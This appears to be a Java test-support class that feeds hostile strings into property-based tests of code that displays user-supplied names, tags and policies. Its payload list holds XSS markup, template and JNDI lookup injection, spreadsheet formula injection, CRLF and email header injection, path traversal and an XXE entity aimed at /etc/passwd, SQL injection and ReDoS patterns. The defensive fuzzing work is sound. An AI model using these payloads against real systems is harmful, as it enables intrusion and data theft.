package dev.vitals.support;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import net.jqwik.api.providers.ArbitraryProvider;
import net.jqwik.api.providers.TypeUsage;
import tools.jackson.databind.json.JsonMapper;

/** Text as somebody writes it into a name, a tag or a policy to break what shows it. */
public final class Hostile {

    /** What {@link #PAGE} would turn to if something in it were worked out. */
    public static final String WORKED_OUT = "62615533";

    /** The name of the element, and the beginning of the attribute, that would come of it if it were read as markup. */
    public static final String PROBE = "vtl-probe";

    /** One text for everything that a page, a cell, a head or a terminal could make something of. */
    public static final String PAGE =
            "=1+1\"'><vtl-probe vtl-probe=\"1\" onmouseover='x()'>${7919*7907}[[${7919*7907}]][(${7919*7907})]__${7919*7907}__*{7919*7907}"
                    + "#{7919*7907}@{/x}~{x}{{7919*7907}}</title></textarea></script></style>--><![CDATA[<svg/onload=x()>"
                    + "%0d%0aX-Probe: 1\r\nX-Probe: 2\u2028\u202Eevil\u2066\u0007\u001b[31m\u009b31m"
                    + "[probe](javascript:x()) ${jndi:ldap://probe}\u00e9\ud83d\ude00";

    /** Texts that are known to break something, each for another reason. */
    public static final List<String> KNOWN = List.of(
            PAGE,
            "",
            " ",
            "\0",
            "a\0b",
            "\ud800",
            "\udc00\ud800",
            "x\ud83dy",
            "\uffff\ufeff\ufffe",
            "\u202Egnp.exe\u202C\u2066\u2069\u200F\u061C",
            "Cafe\u0301 \u0430dmin \uFF1DHYPERLINK",
            "=cmd|'/c calc'!A1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "\uFF1D1\uFF0B\uFF0D\uFF20",
            "a\r\nBcc: evil@example.org\r\n\r\nbody",
            "a\nBcc: evil@example.org",
            "%0d%0aSet-Cookie: a=b",
            "\u001b]0;title\u0007\u001b[2J\u009b31m\u0085x",
            "2026-11-27T00:00:00Z ERROR forged\nline",
            "${jndi:ldap://evil/a} %d{} %n %msg",
            "../../../../etc/passwd",
            "..\\..\\windows\\system32",
            "CON.txt;filename*=UTF-8''x\"",
            "'; drop table account; --",
            "\\E(a+)+$\\Q",
            "(a+)+$",
            "*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b",
            "*?*?*?*?*?*?*?*?",
            "{\"a\":{\"a\":[[[[",
            "\"\\u0000\\ud800\"",
            "![x](http://evil/p.png) <b>x</b> [x](javascript:x)",
            "[".repeat(400),
            "> ".repeat(400),
            "*a_".repeat(300),
            "/JavaScript (app.alert(1)) /OpenAction <</S/URI>>",
            "<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>",
            "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            "1e999999999",
            "9".repeat(400),
            "x".repeat(5_000),
            "\u0301".repeat(300));

    private static final String LETTERS =
            "a0=+-@'\"<>&%$#{}[]()_*?|\\/:;,. \t\r\n\0\u0007\u001b\u007f\u0085\u009b\u00a0\u00ad\u0301\u061c\u200b\u200f\u2028\u2029"
                    + "\u202e\u2066\u2069\u20ac\ufeff\uff1d\uff0b\uff20\ufffe\uffff\ud800\udc00\ue000";

    private Hostile() {}

    /** Known ones, some of them after another, and letters in any order. */
    public static Arbitrary<String> texts() {
        var known = Arbitraries.of(KNOWN);
        var letters = Arbitraries.of(
                        LETTERS.chars().mapToObj(letter -> "" + (char) letter).toList())
                .list()
                .ofMaxSize(40)
                .map(all -> String.join("", all));
        var pieces = Arbitraries.oneOf(known, letters)
                .list()
                .ofMinSize(2)
                .ofMaxSize(4)
                .map(all -> String.join("", all));
        return Arbitraries.oneOf(known, letters, pieces);
    }

    /** JSON of any shape, a few levels deep, with these names among others that were made up. */
    public static Arbitrary<String> json(String... names) {
        var leaf = Arbitraries.oneOf(
                texts().map(Hostile::quoted),
                Arbitraries.of("null", "true", "\"True\"", "0", "-1e400", "9".repeat(900), "[]", "{}", "\"\""));
        var name = Arbitraries.oneOf(Arbitraries.of(names), Arbitraries.of(names), texts());
        var json = leaf;
        for (int depth = 0; depth < 3; depth++) {
            json = Arbitraries.frequencyOf(
                    Tuple.of(2, leaf), Tuple.of(1, listOf(json)), Tuple.of(2, objectOf(name, json)));
        }
        return json;
    }

    private static Arbitrary<String> listOf(Arbitrary<String> json) {
        return json.list().ofMaxSize(3).map(all -> "[" + String.join(",", all) + "]");
    }

    private static Arbitrary<String> objectOf(Arbitrary<String> name, Arbitrary<String> json) {
        return Combinators.combine(name, json)
                .as((key, value) -> quoted(key) + ":" + value)
                .list()
                .ofMaxSize(3)
                .map(all -> "{" + String.join(",", all) + "}");
    }

    /** A text as JSON has it. */
    public static String quoted(String text) {
        return JsonMapper.shared().writeValueAsString(text);
    }

    /** Fills parameters of properties that are texts. */
    public static final class Texts implements ArbitraryProvider {

        @Override
        public boolean canProvideFor(TypeUsage targetType) {
            return targetType.isOfType(String.class);
        }

        @Override
        public java.util.Set<Arbitrary<?>> provideFor(TypeUsage targetType, SubtypeProvider subtypeProvider) {
            return java.util.Set.of(texts());
        }

        @Override
        public int priority() {
            return 5;
        }
    }
}
